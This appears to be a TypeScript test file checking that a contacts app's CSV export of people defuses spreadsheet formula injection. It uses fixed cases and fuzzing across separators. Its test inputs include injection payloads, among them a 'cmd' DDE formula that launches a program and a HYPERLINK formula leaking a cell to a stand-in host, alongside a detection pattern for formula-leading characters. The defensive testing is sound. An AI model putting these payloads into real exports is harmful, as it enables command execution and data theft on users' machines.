/** The people as a table: read back by a parser, as spreadsheets of every kind would split it. */
import * as fc from 'fast-check';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { cellText } from '@/interchange/csv/cell';
import {
  type PeopleColumn,
  type PersonCells,
  peopleColumns,
  peopleCsv,
} from '@/interchange/csv/people';

/** What a spreadsheet runs, behind whatever it may drop. */
const runs = /^[\s\p{Cc}\p{Cf}"]*[=+\-@＝＋－＠﹦﹢﹣﹫]/u;

const blank: PersonCells = {
  name: '',
  headline: '',
  company: '',
  roles: '',
  tags: '',
  state: '',
  rhythmDays: '',
  lastContact: '',
  nextDue: '',
  howMet: '',
  note: '',
  connectedOn: '',
  linkedIn: '',
};

function cellsOf(text: (column: PeopleColumn, index: number) => string): PersonCells {
  const cells = { ...blank };
  for (const [index, column] of peopleColumns.entries()) cells[column] = text(column, index);
  return cells;
}

const titles = cellsOf((column) => column);

const allOf = (text: string) => cellsOf(() => text);

/** Without the mark at the beginning, as a reader gets it. */
function split(file: string, delimiter: string): string[][] {
  return Papa.parse<string[]>(file.slice(1), { delimiter, newline: '\r\n' }).data;
}

/** As a reader does that knows no quotation marks at all. */
function splitWithoutQuotes(file: string): string[] {
  return file.slice(1).split(/[;\t\r\n]/u);
}

/** Every cell of the file, by each separator that a spreadsheet may be set to. */
function everyCell(file: string): string[] {
  return [
    ...[',', ';', '\t'].flatMap((delimiter) => split(file, delimiter).flat()),
    ...splitWithoutQuotes(file),
  ];
}

const whatRuns = (file: string) => everyCell(file).filter((cell) => runs.test(cell));

/** Pieces that are awkward together. */
const piece = fc.constantFrom(
  ...'=+-@＝＋－＠;,\'"\t\r\n\0|\u00A0\u200B\uFEFF\u0085\u2028'.split(''),
  '\uD800',
  '""',
  '";',
  ';"',
  '","',
  'a',
  ' ',
  'cmd()',
);
const text = fc.oneof(
  fc.array(piece, { maxLength: 12 }).map((pieces) => pieces.join('')),
  fc.string({ unit: 'binary', maxLength: 20 }),
);
const cells = fc
  .array(text, { minLength: peopleColumns.length, maxLength: peopleColumns.length })
  .map((texts) => cellsOf((_column, index) => texts[index] ?? ''));

/** What a text says, in one line. */
const inOneLine = (said: string) =>
  said
    .toWellFormed()
    .replaceAll(/[\s\p{Cc}]+/gu, ' ')
    .trim();

describe('the people as a table', () => {
  it('is what spreadsheets open: a mark, a line of titles, one line each, all in quotes', () => {
    const file = peopleCsv(titles, [{ ...blank, name: 'Ana "Nana" García, Lisbon' }]);
    expect(file.startsWith('\uFEFF"name","headline",')).toBe(true);
    expect(file.endsWith('\r\n')).toBe(true);
    expect(file.match(/\r\n/g)).toHaveLength(2);
    expect(split(file, ',')[1]).toEqual(['Ana "Nana" García, Lisbon', ...Array(12).fill('')]);
  });

  it.each([
    ["=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
    ['=HYPERLINK("http://x.test?"&A1,"hi")', '\'=HYPERLINK("http://x.test?"&A1,"hi")'],
    ["@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"],
    ['+1 555 0100', "'+1 555 0100"],
    ['- likes tea\n- has a dog', "'- likes tea - has a dog"],
    ['  =1+1', "'=1+1"],
    ['\t=1+1', "'=1+1"],
    ['\u0000=1+1', "'=1+1"],
    ['\u200B=1+1', "\u200B'=1+1"],
    ['"=1+1', '"\'=1+1'],
    ['＝1+1', "'＝1+1"],
    ['tea; =1+1', "tea; '=1+1"],
    ['tea;"=1+1', 'tea;"\'=1+1'],
    ['tea\n=1+1', 'tea =1+1'],
    ["'=1+1", "''=1+1"],
    ['half a pair: \uD800', 'half a pair: \uFFFD'],
    ['a - b, @c and 2+2=4', 'a - b, @c and 2+2=4'],
  ])('makes %j harmless', (said, cell) => {
    expect(cellText(said)).toBe(cell);
    const file = peopleCsv(titles, [allOf(said)]);
    expect(split(file, ',')[1]).toEqual(Array(peopleColumns.length).fill(cell));
    expect(whatRuns(file)).toEqual([]);
  });

  it('has no cell that runs, whatever is written and by whichever separator it is split', () => {
    fc.assert(
      fc.property(fc.array(cells, { minLength: 1, maxLength: 3 }), (people) => {
        const file = peopleCsv(titles, people);
        expect(whatRuns(file)).toEqual([]);
        expect(file.isWellFormed()).toBe(true);
      }),
      { numRuns: 3_000 },
    );
  });

  it('says what was written, once the apostrophes are taken away', () => {
    fc.assert(
      fc.property(text, (said) => {
        const [, row = []] = split(peopleCsv(titles, [allOf(said)]), ',');
        expect(row).toHaveLength(peopleColumns.length);
        const without = /((?:^|;)[\s"\p{Cf}]*)'(?='*[=+\-@＝＋－＠﹦﹢﹣﹫])/gu;
        for (const cell of row) expect(cell.replaceAll(without, '$1')).toBe(inOneLine(said));
      }),
      { numRuns: 3_000 },
    );
  });

  it('cuts a text that would spill into other cells, between characters', () => {
    const cell = cellText(`${'x'.repeat(31_998)}🧑🧑;=1+1`);
    expect(cell).toHaveLength(31_999);
    expect(cell.endsWith('x…')).toBe(true);
    expect(cellText(';='.repeat(50_000)).length).toBe(32_000);
  });
});
